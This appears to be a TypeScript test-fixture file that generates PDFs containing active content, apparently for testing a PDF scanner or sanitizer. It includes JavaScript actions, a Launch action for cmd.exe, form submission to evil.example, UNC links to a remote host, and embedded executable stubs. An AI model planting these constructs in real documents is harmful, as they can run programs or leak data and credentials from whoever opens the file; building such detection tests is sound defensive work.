// Active content, wherever it can stand in a PDF.
import { onePage, pdf, stream } from './bytes'

export const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
export const program = '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>'

/** What an action can do to whoever opens the file. */
const actions: Readonly<Record<string, string>> = {
  'runs a script': script,
  'starts a program': program,
  'sends a form': '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> /Flags 4 >>',
  'loads data': '<< /S /ImportData /F (data.fdf) >>',
  'opens another file': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share.pdf) /D [0 /Fit] >>',
  'opens a file in it': '<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>',
  'runs a script through another one': `<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`,
  plays: `<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>`,
}

const annotation = (rest: string) => ({
  page: '/Annots [6 0 R]',
  object: `<< /Type /Annot /Rect [0 0 612 792] ${rest} >>`,
})

const field = (rest: string) =>
  pdf({
    ...onePage({ page: '/Annots [6 0 R]', catalog: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>' }),
    6: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 200 20] ${rest} >>`,
  })

const withAnnotation = (rest: string, more: Record<number, string | Buffer> = {}) => {
  const { page, object } = annotation(rest)
  return pdf({ ...onePage({ page }), 6: object, ...more })
}

export const inOpenAction = (action: string, more: Record<number, string | Buffer> = {}) =>
  pdf({ ...onePage({ catalog: `/OpenAction ${action}` }), ...more })

export const attached = {
  6: '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 7 0 R >> >>',
  7: stream('/Type /EmbeddedFile', 'MZ this is a program'),
}

/** By name. */
export const active: Readonly<Record<string, Buffer>> = {
  ...Object.fromEntries(
    Object.entries(actions).flatMap(([does, action]) => [
      [`when it is opened it ${does}`, inOpenAction(action)],
      [`when the page is turned it ${does}`, pdf(onePage({ page: `/AA << /O ${action} /C ${action} >>` }))],
      [`when somebody presses it ${does}`, withAnnotation(`/Subtype /Link /A ${action}`)],
    ]),
  ),
  'a script when it is closed': pdf(
    onePage({ catalog: `/AA << /WC ${script} /WS ${script} /DP ${script} >>` }),
  ),
  'a script of the document': pdf(
    onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  ),
  'a script in an annotation that comes into sight': withAnnotation(
    `/Subtype /Screen /AA << /PV ${script} /PO ${script} >>`,
  ),
  'a script at every key': field(`/V (x) /AA << /K ${script} /F ${script} /V ${script} /C ${script} >>`),
  'a script in the outline': pdf({
    ...onePage({ catalog: '/Outlines 6 0 R' }),
    6: '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
    7: `<< /Title (x) /Parent 6 0 R /A ${script} >>`,
  }),
  'a link that is a script': withAnnotation('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'a second form': pdf({
    ...onePage({ catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>' }),
    6: stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>'),
  }),
  'an attached file': pdf({
    ...onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>' }),
    ...attached,
  }),
  'an attached file on the page': withAnnotation('/Subtype /FileAttachment /FS 7 0 R', {
    7: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
    8: stream('/Type /EmbeddedFile', 'MZ'),
  }),
  'an associated file of the page': pdf({ ...onePage({ page: '/AF [6 0 R]' }), ...attached }),
  'an associated file of a picture': pdf({
    ...onePage({ resources: '/XObject << /X 8 0 R >>', contents: stream('', '/X Do') }),
    ...attached,
    8: stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /AF [6 0 R]', ''),
  }),
  'a portfolio': pdf({
    ...onePage({
      catalog: '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
    }),
    ...attached,
  }),
  'a film': withAnnotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) 7 0 R] >> >>', {
    7: '<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>',
    8: stream('/Type /EmbeddedFile', 'FWS'),
  }),
  'a body with a script': withAnnotation('/Subtype /3D /3DD 7 0 R', {
    7: stream('/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', 'U3D'),
    8: stream('', 'app.alert(1)'),
  }),
  'a sound': withAnnotation('/Subtype /Sound /Sound 7 0 R', {
    7: stream('/Type /Sound /R 8000', '\x00\x01'),
  }),
  'a content in another file': pdf(
    onePage({ contents: stream('/F (\\\\\\\\evil.example\\\\x) /FFilter /FlateDecode', 'x') }),
  ),
  'a picture in another file': pdf({
    ...onePage({ resources: '/XObject << /X 6 0 R >>', contents: stream('', '/X Do') }),
    6: stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.pdf) /Page 0 >>', ''),
  }),
  'a page that carries its own notes': pdf({
    ...onePage({ page: '/PieceInfo << /Evil << /Private 7 0 R >> >> /Metadata 7 0 R /Thumb 7 0 R' }),
    7: stream('/Type /EmbeddedFile', 'MZ this is a program'),
  }),
  'a step of a presentation': pdf(
    onePage({ page: `/PresSteps << /Type /NavNode /NA ${script} /PA ${script} >>` }),
  ),
  'a map that names another file': pdf(
    onePage({ page: '/VP [<< /BBox [0 0 9 9] /PtData << /F (\\\\evil.example\\x) >> >>]' }),
  ),
  'a program of PostScript': pdf({
    ...onePage({ resources: '/XObject << /X 6 0 R >>', contents: stream('', '/X Do') }),
    6: stream('/Type /XObject /Subtype /PS', '(x) run'),
  }),
}
